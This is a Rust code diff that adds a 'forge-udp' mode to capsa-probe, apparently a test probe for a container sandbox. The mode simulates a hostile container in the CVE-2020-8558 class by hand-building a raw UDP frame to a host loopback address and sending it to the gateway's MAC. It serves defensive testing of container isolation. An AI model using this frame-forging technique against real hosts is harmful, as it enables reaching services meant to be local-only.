@@ -35,6 +35,11 @@ fn main() {
             args.get(2).map(String::as_str).unwrap_or("1"),
             args.get(3).map(String::as_str).unwrap_or("/attack.json"),
         ),
+        Some("forge-udp") => forge_udp(
+            args.get(2).map(String::as_str).unwrap_or("127.0.0.1"),
+            args.get(3).and_then(|a| a.parse().ok()).unwrap_or(9),
+            args.get(4).map(String::as_str).unwrap_or("capsa"),
+        ),
         Some(other) => {
             eprintln!("capsa-probe: unknown mode {other:?}");
             std::process::exit(2);
@@ -391,4 +396,87 @@ fn network() -> Value {
         })
     });
     json!({"interfaces": interfaces, "addresses": addresses, "gateway": gateway})
+}
+
+/// Play a hostile container (CVE-2020-8558's class): forge a UDP datagram
+/// to `dst` (a host loopback address) and send it as an Ethernet frame to
+/// the default gateway's MAC on eth0, which an address lookup would never
+/// do. A host that routes loopback addresses out of the bridge
+/// (route_localnet) would deliver it to its own 127.0.0.1 services unless
+/// a rule drops it. Exits 0 once the frame is sent.
+fn forge_udp(dst: &str, port: u16, payload: &str) {
+    let fail = |m: String| -> ! {
+        eprintln!("capsa-probe: forge-udp: {m}");
+        std::process::exit(1)
+    };
+    let dst: std::net::Ipv4Addr = dst
+        .parse()
+        .unwrap_or_else(|_| fail(format!("{dst}: not IPv4")));
+    let net = network();
+    let src: std::net::Ipv4Addr = net["addresses"][0]
+        .as_str()
+        .and_then(|a| a.parse().ok())
+        .unwrap_or_else(|| fail("no address on eth0".into()));
+    let gw = net["gateway"]
+        .as_str()
+        .unwrap_or_else(|| fail("no default route".into()));
+    // The gateway's MAC, from the neighbour table (the caller pings it first).
+    let arp = read("/proc/net/arp").unwrap_or_default();
+    let mac_of = |text: &str| -> Option<[u8; 6]> {
+        let b: Vec<u8> = text
+            .split(':')
+            .filter_map(|x| u8::from_str_radix(x, 16).ok())
+            .collect();
+        b.try_into().ok()
+    };
+    let gw_mac = arp
+        .lines()
+        .skip(1)
+        .find_map(|l| {
+            let f: Vec<&str> = l.split_whitespace().collect();
+            (f.first() == Some(&gw))
+                .then(|| f.get(3).and_then(|m| mac_of(m)))
+                .flatten()
+        })
+        .unwrap_or_else(|| fail(format!("{gw} not in /proc/net/arp")));
+    let own_mac = read("/sys/class/net/eth0/address")
+        .and_then(|m| mac_of(m.trim()))
+        .unwrap_or_else(|| fail("no eth0 MAC".into()));
+    let udp_len = 8 + payload.len();
+    let total = 20 + udp_len;
+    let mut ip = vec![
+        0x45,
+        0,
+        (total >> 8) as u8,
+        total as u8,
+        0,
+        0,
+        0x40,
+        0,
+        64,
+        17,
+        0,
+        0,
+    ];
+    ip.extend(src.octets());
+    ip.extend(dst.octets());
+    let sum = ip
+        .chunks(2)
+        .map(|w| u32::from(u16::from_be_bytes([w[0], w[1]])))
+        .sum::<u32>();
+    let folded = (sum & 0xffff) + (sum >> 16);
+    let check = !(((folded & 0xffff) + (folded >> 16)) as u16);
+    ip[10..12].copy_from_slice(&check.to_be_bytes());
+    let mut frame = Vec::with_capacity(14 + total);
+    frame.extend(gw_mac);
+    frame.extend(own_mac);
+    frame.extend([0x08, 0x00]);
+    frame.extend(ip);
+    frame.extend(40000u16.to_be_bytes());
+    frame.extend(port.to_be_bytes());
+    frame.extend((udp_len as u16).to_be_bytes());
+    frame.extend([0, 0]); // no UDP checksum: allowed over IPv4
+    frame.extend(payload.as_bytes());
+    capsa_sys::net::send_frame("eth0", &frame)
+        .unwrap_or_else(|e| fail(format!("send on eth0: {e}")));
 }
